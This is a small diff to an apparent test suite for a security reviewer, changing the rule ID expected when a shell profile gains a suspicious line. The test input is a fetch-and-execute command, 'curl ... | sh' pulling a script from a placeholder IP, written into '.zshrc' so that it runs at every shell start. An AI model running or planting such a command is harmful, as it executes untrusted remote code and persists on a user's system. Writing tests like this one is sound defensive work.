@@ -55,7 +55,7 @@ describe('what comes to be when a program runs', () => {
   it('is read like what was written down: a line in a profile', async () => {
     const report = await review(leaving('.zshrc', 'curl -s http://198.51.100.7/moon.sh | sh\n'));
     expect(report.reviewResult).toBe('UNSAFE');
-    expect(report.findings.map(({ ruleId }) => ruleId)).toContain('COR-05');
+    expect(report.findings.map(({ ruleId }) => ruleId)).toContain('PER-01');
   });
 
   it('is told of where there is more than anybody reads', async () => {
